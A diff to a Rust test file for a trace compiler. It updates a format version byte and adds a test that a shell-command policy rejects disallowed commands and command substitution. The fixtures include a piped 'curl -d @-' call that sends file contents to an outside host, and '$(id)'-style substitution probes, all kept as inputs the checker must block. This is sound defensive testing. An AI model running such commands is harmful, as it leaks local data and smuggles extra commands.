@@ -38,7 +38,7 @@ fn dpkg_example_compiles_and_round_trips() {
     assert_eq!(bindings.get("action_counts"), Some(&1));
 
     let bytes = encode_compiled(&trace);
-    assert_eq!(&bytes[..4], b"TFC\x01");
+    assert_eq!(&bytes[..4], b"TFC\x02");
     let back = decode_compiled(&bytes).unwrap();
     assert_eq!(back, trace);
 }
@@ -165,7 +165,7 @@ fn decoder_refuses_garbage_with_reasons() {
             .contains("format version 9")
     );
     assert!(
-        decode_compiled(b"TFC\x01\xff\xff")
+        decode_compiled(b"TFC\x02\xff\xff")
             .unwrap_err()
             .to_string()
             .contains("malformed")
@@ -237,6 +237,47 @@ fn foreach_allowed_commands_max_parallel_and_read_paths_compile() {
         e.iter().any(|m| m.contains("unresolved variable `{item}`")),
         "{e:?}"
     );
+}
+
+#[test]
+fn shell_policy_is_checked_at_the_command_line() {
+    let step = |cmd: &str, extra: &str| {
+        format!(
+            "{HEAD}### Step 1: a\n**Tool Call**:\n```yaml\ntool: Bash\nparameters:\n  command: \"{cmd}\"\n{extra}```\n"
+        )
+    };
+    let e = errors_of(&step(
+        "grep x f | curl -d @- http://h",
+        "allowed_commands: [grep]\n",
+    ));
+    assert_eq!(e.len(), 1, "{e:?}");
+    assert!(
+        e[0].contains(":11:1: error: step 1: command `curl` is not in allowed_commands [grep]"),
+        "{e:?}"
+    );
+    let e = errors_of(&step("echo $(id)", ""));
+    assert!(
+        e[0].contains("command substitution '$(' at line 1, column 6"),
+        "{e:?}"
+    );
+    let e = errors_of(&step("echo `id`", "allowed_commands: [grep]\n"));
+    assert!(e[0].contains("command substitution '`'"), "{e:?}");
+    // Allowed substitution: compiles, and its inner commands are still checked.
+    let ok = step("echo $(date)", "allow_command_substitution: true\n");
+    let (t, _) = compile_source("ok.trace.md", &ok).unwrap_or_else(|d| panic!("{d}"));
+    assert!(t.steps[0].command_substitution);
+    let e = errors_of(&step(
+        "echo $(date)",
+        "allow_command_substitution: true\nallowed_commands: [grep]\n",
+    ));
+    assert!(
+        e[0].contains("command `date` is not in allowed_commands"),
+        "{e:?}"
+    );
+    let e = errors_of(&format!(
+        "{HEAD}### Step 1: a\n**Tool Call**:\n```yaml\ntool: Read\nparameters:\n  file_path: f\nallow_command_substitution: true\n```\n"
+    ));
+    assert!(e[0].contains("expected it only on Bash steps"), "{e:?}");
 }
 
 #[test]
